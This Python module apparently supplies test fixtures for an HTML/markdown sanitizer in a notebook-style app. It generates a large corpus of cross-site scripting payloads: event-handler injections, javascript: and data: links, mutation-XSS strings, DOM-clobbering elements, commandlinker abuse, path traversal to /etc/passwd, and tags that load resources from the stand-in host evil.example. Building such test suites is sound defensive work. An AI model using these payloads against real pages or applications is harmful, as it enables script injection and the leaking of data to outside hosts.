"""Text that wants to be more than text: what a model, a file or a tool could say to run code in the page, or to call home.

Whatever gets through sets ``window.__pwned`` or asks ``evil.example`` for something.
"""

from __future__ import annotations

from collections.abc import Iterator

PWN = "window.__pwned=1"
EVIL = "https://evil.example"

_HANDLERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "video autoplay src=x": "onerror",
    "audio src=x autoplay": "onerror",
    "details open": "ontoggle",
    "input autofocus": "onfocus",
    "marquee": "onstart",
    "div style='animation:x 1s'": "onanimationstart",
    "object data=x": "onerror",
    "iframe": "onload",
    "a href=x autofocus tabindex=0": "onfocus",
    "b": "onmouseover",
    "math": "onclick",
    "style": "onload",
    "button popovertarget=x": "onclick",
}
_SCHEMES = [
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f"java\tscript:{PWN}",
    f"&#106;avascript:{PWN}",
    f"\x01javascript:{PWN}",
    f"vbscript:{PWN}",
    f"data:text/html,<script>parent.{PWN}</script>",
    f"data:text/html;base64,PHNjcmlwdD5{'A' * 12}",
    f"//{EVIL.removeprefix('https://')}/x",
    f"\\\\{EVIL.removeprefix('https://')}\\x",
    f"{EVIL}@127.0.0.1/",
    "/api/shutdown",
    "../../../../etc/passwd",
    "file:///etc/passwd",
]
_LOADS = [
    f"![]({EVIL}/a.png)",
    f"![alt][remote]\n\n[remote]: {EVIL}/b.png",
    f'<img src="{EVIL}/c.png" srcset="{EVIL}/d.png 2x">',
    f'<link rel="stylesheet" href="{EVIL}/e.css">',
    f'<link rel="prefetch" href="{EVIL}/f">',
    f'<style>@import "{EVIL}/g.css"; * {{ background: url({EVIL}/h.png) }}</style>',
    f'<div style="background-image:url({EVIL}/i.png)">x</div>',
    f'<iframe src="{EVIL}/j"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<object data="{EVIL}/k"></object>',
    f'<embed src="{EVIL}/l">',
    f'<video poster="{EVIL}/m.png" src="{EVIL}/n.mp4" autoplay></video>',
    f'<audio src="{EVIL}/o.mp3" autoplay></audio>',
    f'<svg><image href="{EVIL}/p.png"/><use href="{EVIL}/q.svg#x"/></svg>',
    f'<math><mtext><img src="{EVIL}/r.png"></mtext></math>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/s">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/t"><button autofocus>x</button></form>',
    f'<table background="{EVIL}/u.png"><tr><td>x</td></tr></table>',
    f'<input type="image" src="{EVIL}/v.png">',
    f"$$\\includegraphics{{{EVIL}/w.png}}$$",
    f"$\\href{{javascript:{PWN}}}{{x}}$",
    f"$$\\unicode{{<img src=x onerror={PWN}>}}$$",
    f'```mermaid\ngraph LR; A[<img src=x onerror={PWN}>] --> B\nclick A href "javascript:{PWN}"\n```',
    f"```html\n<script>{PWN}</script>\n```",
]
_COMMANDS = [
    '<button data-commandlinker-command="crush:stop" data-commandlinker-args="{}">x</button>',
    '<a data-commandlinker-command="apputils:change-theme" data-commandlinker-args=\'{"theme":"JupyterLab Dark"}\'>x</a>',
    '<div id="jupyter-config-data" name="jupyterapp">x</div>',
    '<form id="main"><input name="nodeName"></form>',
    f"<script>{PWN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    f"<template><img src=x onerror={PWN}></template>",
    f"`</code><img src=x onerror={PWN}>`",
    f"<!--><img src=x onerror={PWN}>-->",
    "<a href='x' style='position:fixed;inset:0'>all over the page</a>",
    f"[x](<javascript:{PWN}>)",
    f"<javascript:{PWN}>",
    f"[x]: javascript:{PWN}\n\n[x]",
    f"[x](https://example.org \"title' onmouseover={PWN} '\")",
    f"| a |\n|---|\n| <img src=x onerror={PWN}> |",
    f"1. <img src=x onerror={PWN}>\n   - <svg onload={PWN}>",
    f"> <iframe src=javascript:{PWN}></iframe>",
    f"# <img src=x onerror={PWN}>",
    f"~~<img src=x onerror={PWN}>~~ **<svg/onload={PWN}>**",
    f"https://example.org/<img src=x onerror={PWN}>",
]


def corpus() -> list[str]:
    """All of it, each a block of markdown by itself."""
    return [*_tags(), *_links(), *_LOADS, *_COMMANDS]


def _tags() -> Iterator[str]:
    for tag, handler in _HANDLERS.items():
        name = tag.split()[0]
        yield f"<{tag} {handler}={PWN}>x</{name}>"
        yield f'<{name.upper()}\n{tag.removeprefix(name)} {handler}="{PWN}" x'
        yield f"text <{tag.replace(' ', '/')}/{handler}='{PWN}'//>"


def _links() -> Iterator[str]:
    for number, scheme in enumerate(_SCHEMES):
        yield f"[link]({scheme})"
        yield f"![picture]({scheme})"
        yield f'<a href="{scheme}">link</a>'
        yield f"[link][{number}]\n\n[{number}]: {scheme}"
